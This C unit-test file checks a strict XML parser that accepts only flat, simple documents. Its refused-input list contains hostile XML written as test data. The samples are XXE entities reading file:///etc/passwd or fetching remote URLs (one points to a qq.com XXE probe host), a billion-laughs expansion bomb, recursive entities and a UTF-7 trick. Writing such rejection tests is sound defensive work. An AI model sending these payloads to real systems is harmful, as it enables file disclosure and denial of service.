/*
 * XML: what is read, and everything that is refused.
 */

#include "pt_xml.h"
#include "unit.h"


#define N(a)  (sizeof(a) / sizeof((a)[0]))

#define CDATA(s)  "<![CDATA[" s "]]>"


static pt_xml_t  xml;


static pt_xml_e
parse(const char *s)
{
    return pt_xml_parse(&xml, unit_str(s), "xml", unit_alloc, NULL);
}


/* The children as "name=value;". */
static const char *
children(void)
{
    size_t    i;
    pt_out_t  out;

    unit_out(&out);

    for (i = 0; i < xml.n; i++) {
        pt_out_put(&out, xml.children[i].name);
        pt_out_char(&out, '=');
        pt_out_put(&out, xml.children[i].value);
        pt_out_char(&out, ';');
    }

    return unit_text(&out);
}


static void
test_read(void **state)
{
    size_t  i;

    static const struct {
        const char  *text;
        const char  *children;
    } cases[] = {
        { "<xml><a>1</a></xml>", "a=1;" },
        { "<xml></xml>", "" },
        { "<xml/>", "" },
        { "<xml><a/></xml>", "a=;" },
        { "<xml><a></a></xml>", "a=;" },
        { "<xml><b>2</b><a>1</a><c>3</c></xml>", "a=1;b=2;c=3;" },
        { "<xml><ab>2</ab><a>1</a><aB>3</aB><A>4</A></xml>",
          "A=4;a=1;aB=3;ab=2;" },
        { "<xml><a>" CDATA("<b>&amp;</b>") "</a></xml>", "a=<b>&amp;</b>;" },
        { "<xml><a>" CDATA("") "</a></xml>", "a=;" },
        { "<xml><a>" CDATA("x]]") CDATA(">y") "</a></xml>", "a=x]]>y;" },
        { "<xml><a>x" CDATA("y") "z</a></xml>", "a=xyz;" },
        { "<xml><a>" CDATA("<!DOCTYPE x [<!ENTITY a 'b'>]>") "</a></xml>",
          "a=<!DOCTYPE x [<!ENTITY a 'b'>]>;" },
        { "<xml><a>" CDATA("<!-- x -->") "</a></xml>", "a=<!-- x -->;" },
        { "<xml><a>&lt;&gt;&amp;&quot;&apos;</a></xml>", "a=<>&\"';" },
        { "<xml><a>&#60;&#x3c;&#x3C;</a></xml>", "a=<<<;" },
        { "<xml><a>&amp;lt;</a></xml>", "a=&lt;;" },
        { "<xml><a>&#25903;&#x4ed8;</a></xml>",
          "a=\xe6\x94\xaf\xe4\xbb\x98;" },
        { "<xml><a>\xe6\x94\xaf&#x1F600;</a></xml>",
          "a=\xe6\x94\xaf\xf0\x9f\x98\x80;" },
        { "<xml><a> 1 </a></xml>", "a= 1 ;" },
        { "<xml><a>\n1\t</a></xml>", "a=\n1\t;" },
        { "<xml><a>1\r\n2\r3</a></xml>", "a=1\n2\n3;" },
        { "<xml><a>1&#13;&#10;</a></xml>", "a=1\r\n;" },
        { "<xml>\r\n\t <a>1</a> \n</xml>\n ", "a=1;" },
        { "\n<xml><a>1</a></xml>", "a=1;" },
        { "<xml ><a >1</a ></xml >", "a=1;" },
        { "\xef\xbb\xbf<xml><a>1</a></xml>", "a=1;" },
        { "<?xml version=\"1.0\"?><xml><a>1</a></xml>", "a=1;" },
        { "<?xml version='1.0' encoding='utf-8'?>\n<xml><a>1</a></xml>",
          "a=1;" },
        { "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
          "<xml><a>1</a></xml>", "a=1;" },
        { "\xef\xbb\xbf<?xml version=\"1.0\" encoding=\"Utf-8\"?>"
          "<xml><a>1</a></xml>", "a=1;" },
        { "<xml><a-b.c_0>1</a-b.c_0><_>2</_></xml>", "_=2;a-b.c_0=1;" },
        { "<xml><xml>1</xml></xml>", "xml=1;" },
        { "<xml><a>a=1&amp;b=2</a></xml>", "a=a=1&b=2;" },
    };

    for (i = 0; i < N(cases); i++) {
        if (parse(cases[i].text) != PT_XML_OK) {
            fail_msg("%s", cases[i].text);
        }

        assert_string_equal(children(), cases[i].children);
    }
}


static void
test_refused(void **state)
{
    size_t  i;

    static const char *const  cases[] = {
        "", " ", "x", "{}", "a=1&b=2", "<", "<xml", "<xml>", "</xml>",
        "<xml><a>1</a>", "<xml><a>1</xml></a>", "<xml><a>1</b></xml>",
        "<xml><a>1</a></xml><xml/>", "<xml><a>1</a></xml>x",
        "x<xml><a>1</a></xml>", "<xml><a>1</a></xml><", "<XML><a>1</a></XML>",
        "<root><a>1</a></root>", "<xm><a>1</a></xm>", "<xmlx/>",
        "<foo:xml/>", "<xml><a:b>1</a:b></xml>",

        /* a name twice */

        "<xml><a>1</a><a>1</a></xml>", "<xml><a>1</a><b>2</b><a>3</a></xml>",
        "<xml><a/><a>1</a></xml>", "<xml><b/><a/><c/><b/></xml>",

        /* nesting, text where none may be */

        "<xml><a><b>1</b></a></xml>", "<xml><a>1<b/></a></xml>",
        "<xml><a><a>1</a></a></xml>", "<xml><xml><a>1</a></xml></xml>",
        "<xml>x<a>1</a></xml>", "<xml><a>1</a>x</xml>", "<xml>&#120;</xml>",
        "<xml>" CDATA("x") "<a>1</a></xml>", "<xml>" CDATA("") "</xml>",
        "<xml>" CDATA(" ") "<a>1</a></xml>", "<xml>&amp;</xml>",

        /* attributes, comments, instructions */

        "<xml a=\"1\"><a>1</a></xml>", "<xml><a b=\"1\">1</a></xml>",
        "<xml xmlns=\"http://x/\"><a>1</a></xml>",
        "<xml><a xml:space=\"preserve\">1</a></xml>",
        "<!-- x --><xml/>", "<xml><!-- x --><a>1</a></xml>",
        "<xml><a>1<!-- x -->2</a></xml>", "<xml/><!-- x -->",
        "<?php x ?><xml/>", "<xml><?x y?><a>1</a></xml>",
        "<xml><a>1<?x?></a></xml>", "<xml/><?x?>",
        "<?xml-stylesheet href='http://x/'?><xml/>",
        " <?xml version=\"1.0\"?><xml/>",
        "<?xml version=\"1.0\"?><?xml version=\"1.0\"?><xml/>",

        /* DOCTYPE and what it can hold */

        "<!DOCTYPE xml><xml><a>1</a></xml>", "<!DOCTYPE xml []><xml/>",
        "<!doctype xml><xml/>", "<!DOCTYPE><xml/>", "<!DOCTYPE xml",
        "<!DOCTYPE xml SYSTEM \"http://x/\"><xml><a>1</a></xml>",
        "<!DOCTYPE xml PUBLIC \"x\" \"file:///etc/passwd\"><xml/>",
        "<!DOCTYPE xml [<!ENTITY e \"1\">]><xml><a>&e;</a></xml>",
        "<!DOCTYPE xml [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
        "<xml><a>&e;</a></xml>",
        "<!DOCTYPE xml [<!ENTITY % e SYSTEM \"http://x/\"> %e;]><xml/>",
        "<!DOCTYPE xml [<!ENTITY a \"aaaaaaaaaa\">"
        "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
        "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
        "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
        "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]>"
        "<xml><a>&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;</a></xml>",
        "<!DOCTYPE xml [<!ENTITY a \"&a;\">]><xml><a>&a;</a></xml>",
        "<!DOCTYPE xml [<!ATTLIST a b CDATA \"1\">]><xml><a>1</a></xml>",
        "<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml/>",
        "<!DOCTYPE xml [<!NOTATION n SYSTEM \"x\">]><xml/>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE foo [<!ENTITY "
        "xxe SYSTEM \"http://tst.qq.com/xxe_inject/463103c2ee4067e1\">]>\n"
        "<foo><value>&xxe;</value></foo>\n",
        "<xml><!DOCTYPE xml><a>1</a></xml>", "<xml/><!DOCTYPE xml>",
        "<xml><!ENTITY a \"1\"><a>1</a></xml>", "<!ENTITY a \"1\"><xml/>",
        "<xml><a><!ELEMENT a ANY></a></xml>", "<![IGNORE[ x ]]><xml/>",

        /* references */

        "<xml><a>&x;</a></xml>", "<xml><a>&nbsp;</a></xml>",
        "<xml><a>&#0;</a></xml>", "<xml><a>&#x0;</a></xml>",
        "<xml><a>&#1;</a></xml>", "<xml><a>&#x1f;</a></xml>",
        "<xml><a>&#xD800;</a></xml>", "<xml><a>&#x110000;</a></xml>",
        "<xml><a>&#99999999999;</a></xml>", "<xml><a>&#xFFFE;</a></xml>",
        "<xml><a>&</a></xml>", "<xml><a>a&b</a></xml>", "<xml><a>&#;</a></xml>",
        "<xml><a>&#x;</a></xml>", "<xml><a>&#xg;</a></xml>",
        "<xml><a>&AMP;</a></xml>", "<xml><a>&lt</a></xml>",

        /* sections that are none */

        "<xml><a>]]></a></xml>", "<xml><a><![CDATA[1</a></xml>",
        "<xml><a><![cdata[1]]></a></xml>", "<xml><a><![CDATA [1]]></a></xml>",
        "<xml><a>" CDATA("x]]>y") "</a></xml>", "<xml><a><1</a></xml>",

        /* encodings and versions */

        "<?xml version=\"1.0\" encoding=\"GBK\"?><xml/>",
        "<?xml version=\"1.0\" encoding=\"GB2312\"?><xml/>",
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><xml/>",
        "<?xml version=\"1.0\" encoding=\"UTF-16LE\"?><xml/>",
        "<?xml version=\"1.0\" encoding=\"utf8\"?><xml/>",
        "<?xml version=\"1.0\" encoding=\"utf-88\"?><xml/>",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>"
        "<xml><a>+ADw-b+AD4-</a></xml>",
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><xml/>",
        "<?xml version=\"1.0\" encoding=\"US-ASCII\"?><xml/>",
        "<?xml version=\"1.0\" encoding=\"UCS-4\"?><xml/>",
        "<?xml version=\"1.0\" encoding=\"\"?><xml/>",
        "<?xml version=\"1.1\"?><xml/>", "<?xml version=\"2.0\"?><xml/>",
        "<?xml encoding=\"UTF-8\"?><xml/>", "<?xml?><xml/>",
        "<?XML version=\"1.0\"?><xml/>",
        "\xff\xfe<xml/>", "\xfe\xff<xml/>", "\xef\xbb<xml/>",
        "\xef\xbb\xbf\xef\xbb\xbf<xml/>",
        "<xml><a>\xd6\xa7\xb8\xb6</a></xml>", "<xml><a>\xc0\xbc</a></xml>",
        "<xml><a>\xed\xa0\x80</a></xml>", "<xml><a>\xff</a></xml>",
        "<xml><a>\xe6\x94</a></xml>", "<xml><a>\x01</a></xml>",
        "<xml><a>\x1b[0m</a></xml>", "<xml><a>\xef\xbf\xbe</a></xml>",

        /* names */

        "<xml><\xe6\x94\xaf>1</\xe6\x94\xaf></xml>", "<xml><0>1</0></xml>",
        "<xml><a b>1</a b></xml>", "<xml>< a>1</a></xml>", "<xml><></></xml>",
        "<xml><a&b>1</a&b></xml>", "<xml><a=b>1</a=b></xml>",
    };

    for (i = 0; i < N(cases); i++) {
        if (parse(cases[i]) != PT_XML_BAD) {
            fail_msg("%s", cases[i]);
        }

        assert_int_equal(xml.n, 0);
    }
}


/* Zero bytes anywhere, and texts in UTF-16 and UTF-32, which have some. */
static void
test_zero_bytes(void **state)
{
    char        *wide;
    size_t       i, k, len, width;
    pt_slice_t   s;

    static const char  text[] = "<xml><a>1</a></xml>";

    len = sizeof(text) - 1;

    for (i = 0; i <= len; i++) {
        s = unit_fmt("%.*sx%s", (int) i, text, text + i);
        ((char *) s.data)[i] = '\0';
        assert_int_equal(pt_xml_parse(&xml, s, "xml", unit_alloc, NULL),
                         PT_XML_BAD);
    }

    for (width = 2; width <= 4; width += 2) {
        for (k = 0; k < 2; k++) {
            wide = unit_alloc(NULL, (len + 1) * width);
            memset(wide, 0, (len + 1) * width);
            wide[k ? width - 1 : 0] = '\xff';
            wide[k ? width - 2 : 1] = '\xfe';

            for (i = 0; i < len; i++) {
                wide[(i + 1) * width + (k ? width - 1 : 0)] = text[i];
            }

            assert_int_equal(pt_xml_parse(&xml,
                                          pt_slice(wide, (len + 1) * width),
                                          "xml", unit_alloc, NULL),
                             PT_XML_BAD);
            assert_int_equal(pt_xml_parse(&xml,
                                          pt_slice(wide + width, len * width),
                                          "xml", unit_alloc, NULL),
                             PT_XML_BAD);
        }
    }
}


static void
test_root(void **state)
{
    assert_int_equal(pt_xml_parse(&xml, unit_str("<root><a>1</a></root>"),
                                  "root", unit_alloc, NULL), PT_XML_OK);
    assert_int_equal(pt_xml_parse(&xml, unit_str("<xml><a>1</a></xml>"),
                                  "root", unit_alloc, NULL), PT_XML_BAD);
}


static void
test_get(void **state)
{
    pt_slice_t  value;

    assert_int_equal(parse("<xml><b>2</b><ab>1</ab><c/></xml>"), PT_XML_OK);

    assert_int_equal(pt_xml_get(&xml, "ab", &value), 0);
    unit_slice_is(value, "1");
    assert_int_equal(pt_xml_get(&xml, "b", &value), 0);
    unit_slice_is(value, "2");
    assert_int_equal(pt_xml_get(&xml, "c", &value), -1);
    assert_int_equal(value.len, 0);
    assert_int_equal(pt_xml_get(&xml, "a", &value), -1);
    assert_int_equal(value.len, 0);
    assert_int_equal(pt_xml_get(&xml, "abc", &value), -1);
}


static pt_slice_t
many(size_t n)
{
    size_t    i;
    pt_out_t  out;

    unit_out(&out);
    pt_out_str(&out, "<xml>");

    for (i = 0; i < n; i++) {
        pt_out_put(&out, unit_fmt("<a%zu>%zu</a%zu>", i, i, i));
    }

    pt_out_str(&out, "</xml>");

    return pt_out_slice(&out);
}


static void
test_limits(void **state)
{
    size_t      i;
    pt_slice_t  a, s;

    assert_int_equal(pt_xml_parse(&xml, many(PT_XML_CHILDREN_MAX), "xml",
                                  unit_alloc, NULL), PT_XML_OK);
    assert_int_equal(xml.n, PT_XML_CHILDREN_MAX);
    assert_int_equal(pt_xml_parse(&xml, many(PT_XML_CHILDREN_MAX + 1), "xml",
                                  unit_alloc, NULL), PT_XML_BAD);

    for (i = 0; i < 2; i++) {
        a = unit_repeat("a", PT_XML_NAME_MAX + i);
        s = unit_fmt("<xml><%.*s>1</%.*s></xml>", (int) a.len, a.data,
                     (int) a.len, a.data);
        assert_int_equal(pt_xml_parse(&xml, s, "xml", unit_alloc, NULL),
                         i ? PT_XML_BAD : PT_XML_OK);

        a = unit_repeat("a", PT_XML_SIZE_MAX - 18 + i);
        s = unit_repeat(" ", PT_XML_SIZE_MAX + i);
        memcpy((char *) s.data, "<xml><a>", 8);
        memcpy((char *) s.data + 8, a.data, a.len);
        memcpy((char *) s.data + 8 + a.len, "</a></xml>", 10);
        assert_int_equal(pt_xml_parse(&xml, s, "xml", unit_alloc, NULL),
                         i ? PT_XML_BAD : PT_XML_OK);
    }

    /* deep, wide, long: refused at the first step beyond */

    assert_int_equal(pt_xml_parse(&xml, unit_repeat("<xml>", 13000), "xml",
                                  unit_alloc, NULL), PT_XML_BAD);
    assert_int_equal(pt_xml_parse(&xml, unit_repeat("<", 65000), "xml",
                                  unit_alloc, NULL), PT_XML_BAD);
    assert_int_equal(pt_xml_parse(&xml, unit_repeat("<xml/>", 10000), "xml",
                                  unit_alloc, NULL), PT_XML_BAD);
    assert_int_equal(pt_xml_parse(&xml, unit_repeat("<!DOCTYPE xml [", 4000),
                                  "xml", unit_alloc, NULL), PT_XML_BAD);
}


/* A text that is cut, wherever, is none. */
static void
test_cut(void **state)
{
    size_t  i;

    static const char  text[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        "<xml><a>" CDATA("1") "</a><b>x&amp;&#x4ed8;y</b></xml>";

    assert_int_equal(parse(text), PT_XML_OK);

    for (i = 0; i < sizeof(text) - 1; i++) {
        assert_int_equal(pt_xml_parse(&xml, unit_mem(text, i), "xml",
                                      unit_alloc, NULL), PT_XML_BAD);
    }
}


static void
test_rubbish(void **state)
{
    size_t       i, n, len;
    char         text[256];
    pt_slice_t   value;

    static const char *const  words[] = {
        "<xml>", "</xml>", "<a>", "</a>", "<b>", "</b>", "<![CDATA[", "]]>",
        "&amp;", "&#65;", "<!--", "-->", "<?", "?>", "<!DOCTYPE", "x", " ",
    };

    for (i = 0; i < 20000; i++) {
        len = 0;

        for (n = unit_below(12); n > 0; n--) {
            len += sprintf(text + len, "%s", words[unit_below(N(words))]);
        }

        if (pt_xml_parse(&xml, unit_mem(text, len), "xml", unit_alloc, NULL)
            == PT_XML_OK)
        {
            assert_in_range(xml.n, 0, 2);
            (void) pt_xml_get(&xml, "a", &value);
            assert_in_range(value.len, 0, len);
        }
    }
}


static int  rest;


static void *
scarce_alloc(void *ctx, size_t size)
{
    return rest-- > 0 ? unit_alloc(ctx, size) : NULL;
}


static void
test_no_memory(void **state)
{
    rest = 0;
    assert_int_equal(pt_xml_parse(&xml, unit_str("<xml/>"), "xml",
                                  scarce_alloc, NULL), PT_XML_NO_MEMORY);

    rest = 1;
    assert_int_equal(pt_xml_parse(&xml, unit_str("<xml/>"), "xml",
                                  scarce_alloc, NULL), PT_XML_OK);
}


int
main(void)
{
    const struct CMUnitTest  tests[] = {
        unit_case(test_read),
        unit_case(test_refused),
        unit_case(test_zero_bytes),
        unit_case(test_root),
        unit_case(test_get),
        unit_case(test_limits),
        unit_case(test_cut),
        unit_case(test_rubbish),
        unit_case(test_no_memory),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
